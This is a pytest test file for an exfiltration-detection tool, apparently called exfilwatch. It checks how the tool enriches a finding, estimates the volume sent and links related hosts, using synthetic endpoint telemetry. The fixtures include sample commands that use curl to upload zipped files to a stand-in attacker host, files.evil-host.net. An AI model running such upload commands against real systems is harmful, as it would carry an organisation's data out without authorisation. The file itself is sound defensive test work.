"""Actions that look beyond the finding: all that is known of it, how much left, and who else does the same."""

import json
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from tests.cli.telemetry import write
from tests.enrichment.made import connection, process

from exfilwatch.detection.rule import RuleSet
from exfilwatch.errors import ConfigError
from exfilwatch_playbooks.cases.local import Local
from exfilwatch_playbooks.cases.opening import open_cases

from .kept import NOW, Around, context, did, found

START = NOW - timedelta(hours=2)
HOST = "files.evil-host.net"
ASSETS = "host,role,criticality\nWS1,Payroll,high\n"


def upload(host: str, user: str, part: str, when: datetime) -> dict[str, Any]:
    return process(when, host, user, f"curl -T C:\\Users\\{user[5:]}\\{part}.zip https://{HOST}/in")


@pytest.fixture
def records(tmp_path: Path) -> Path:
    sysmon = process(START, "WS1", "CORP\\anna", "x")
    return write(
        tmp_path / "all.jsonl",
        process(START - timedelta(days=29.9), "SRV9", "CORP\\x", "notepad.exe a.txt"),
        upload("WS1", "CORP\\anna", "part-1", START),
        upload("WS2", "CORP\\anna", "part-7", START + timedelta(minutes=3)),
        process(START + timedelta(minutes=4), "WS3", "CORP\\cleo", "notepad \\\\srv\\share\\part-1.zip"),
        process(START + timedelta(minutes=5), "WS4", "CORP\\dora", f"curl https://{HOST}/"),
        {**sysmon, "EventID": 22, "QueryName": HOST, "QueryResults": "8.8.4.4;"},
        {**sysmon, "EventID": 3, "Initiated": "true", "SourceIp": "10.0.0.5", "DestinationIp": "8.8.4.4"},
        connection(START + timedelta(seconds=5), "10.0.0.5", "8.8.4.4", 80_000_000),
    )  # fmt: skip


@pytest.fixture
def work(records: Path, tmp_path: Path, rules: RuleSet) -> Around:
    (tmp_path / "assets.csv").write_text(ASSETS)
    tables = {"assets": {"file": str(tmp_path / "assets.csv")}, "place": {}}
    made = context(tmp_path, rules, {"enrichment": tables})
    made.store.save(found(records, rules))
    return made


def the(work: Around, host: str = "WS1") -> str:
    return work.store.find(host=host)[0].id


def test_enrich_finding_tells_all_and_changes_the_severity(work: Around) -> None:
    answer = did("enrich_finding", work, finding=the(work))
    facts = {(each.about, each.key): each.value for each in answer.enrichment.known}
    assert facts[HOST, "volume.bytes_out"] == "80.0 MB"
    assert facts[HOST, "prevalence.new"] == "yes"
    assert facts["", "asset.role"] == "Payroll"
    assert "destination new in this organisation, 80.0 MB out" in answer.reasons
    assert "the host is of high criticality" in answer.reasons
    assert answer.problems == []
    assert answer.summary.endswith(answer.enrichment.severity.words)


def test_what_was_found_is_in_the_case_that_is_opened_then(work: Around) -> None:
    import asyncio

    answer = did("enrich_finding", work, finding=the(work))
    (outcome, *_) = asyncio.run(open_cases(work.store, Local(work.store), only=[answer.enrichment.of]))
    assert outcome.case is not None
    assert outcome.case.level == answer.level
    assert "## What else is known" in outcome.case.body
    assert "destination new in this organisation, 80.0 MB out" in outcome.case.body


def test_enrich_finding_asks_only_whom_it_is_told_to(work: Around) -> None:
    answer = did("enrich_finding", work, finding=the(work), only="assets, place", about="finding")
    assert {each.enricher for each in answer.enrichment.facts} == {"assets", "place"}
    assert answer.enrichment.of == the(work)
    with pytest.raises(ConfigError, match="there is no enricher nobody"):
        did("enrich_finding", work, finding=the(work), only="nobody")


def test_estimate_volume(work: Around) -> None:
    answer = did("estimate_volume", work, finding=the(work))
    assert answer.bytes == 80_000_000
    assert answer.summary == "80.0 MB sent by its host"
    (volume,) = answer.volumes
    assert (volume.about, volume.connections, volume.archive) == (HOST, 1, None)


def test_find_related_tells_the_same_command_then_the_same_name_then_the_same_destination(work: Around) -> None:
    answer = did("find_related", work, finding=the(work))
    assert [(each.host, each.by) for each in answer.related] == [
        ("WS2", "command"),
        ("WS3", "archive"),
        ("WS2", "destination"),
        ("WS4", "destination"),
    ]
    command = answer.related[0]
    assert command.users == ["CORP\\anna"]
    assert command.findings == [the(work, "WS2")]
    assert command.first == command.last == datetime(2026, 3, 12, 10, 3, tzinfo=UTC)
    assert answer.summary == "3 other hosts share something with it"


def test_find_related_keeps_to_its_limit(work: Around) -> None:
    answer = did("find_related", work, finding=the(work), limit=1)
    assert [each.host for each in answer.related] == ["WS2"]
    assert answer.problems == ["only 1 of 4: raise limit"]


def test_answers_are_json(work: Around) -> None:
    for name in ("enrich_finding", "estimate_volume", "find_related"):
        assert json.loads(did(name, work, finding=the(work)).model_dump_json())["summary"]
